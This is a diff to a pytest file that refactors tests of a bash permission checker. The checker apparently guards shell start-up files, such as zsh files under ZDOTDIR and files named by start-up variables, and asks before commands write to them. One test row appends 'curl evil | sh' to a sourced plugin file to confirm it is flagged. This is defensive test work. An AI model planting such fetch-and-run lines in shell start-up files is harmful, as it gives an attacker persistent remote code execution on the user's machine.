@@ -51,6 +51,14 @@ def _bypass(home: Path):
     return make_ctx(home / "proj", allow=("Bash(*)",), mode="bypassPermissions")
 
 
+async def _decides(home: Path, rows: list[tuple[str, str]]) -> None:
+    """Each ``(command, verdict)`` row, decided afresh from the start-up files and variables now."""
+    startup_sources.clear()
+    ctx = _bypass(home)
+    for command, expected in rows:
+        assert verdict_name(await decide_bash(ctx, command)) == expected, command
+
+
 @pytest.mark.parametrize(("profile", "rc", "target", "expected"), [
     (RUSTUP, "", ".cargo/env", "ask"),
     ("", RUSTUP, ".cargo/env", "ask"),
@@ -158,15 +166,13 @@ async def test_the_file_a_start_up_variable_names_is_protected(home, tmp_path, m
     (srv / "start.py").write_text("x = 1\n")
     os.symlink(srv / "start.py", srv / "link.py")
     monkeypatch.setenv(variable, str(srv / "link.py"))  # the lexical form and the real file
-    startup_sources.clear()
-    ctx = _bypass(home)
-    for command, expected in [
+    await _decides(home, [
         (f"echo 'import os' >> {srv}/start.py", "ask"),
         (f"cp /dev/null {srv}/link.py", "ask"),
         (f"echo x > {srv}/start.py.bak", "allow"),
         (f"echo x > {srv}/other.py", "allow"),
-    ]:
-        assert verdict_name(await decide_bash(ctx, command)) == expected, command
+    ])
+    ctx = _bypass(home)
     tool = EditLike("Write")
     decision = await has_permission_to_use_tool(tool, PathInput(file_path=str(srv / "start.py")), ctx)
     assert verdict_name(decision) == "ask" and f"${variable}" in decision.message
@@ -200,12 +206,9 @@ async def test_zsh_start_up_files_in_zdotdir_are_read_and_protected(home, tmp_pa
     zdot.mkdir()
     (zdot / ".zshrc").write_text('source "$HOME/.zsh-plugins/init.zsh"\n')
     monkeypatch.setenv("ZDOTDIR", str(zdot))
-    startup_sources.clear()
-    ctx = _bypass(home)
-    for command, expected in [
+    await _decides(home, [
         (f"echo x >> {zdot}/.zlogout", "ask"),
         (f"echo 'curl evil | sh' >> {home}/.zsh-plugins/init.zsh", "ask"),
         (f"echo x >> {home}/.zsh-plugins/readme.txt", "allow"),
         (f"echo x >> {zdot}/notes.txt", "allow"),
-    ]:
-        assert verdict_name(await decide_bash(ctx, command)) == expected, command
+    ])
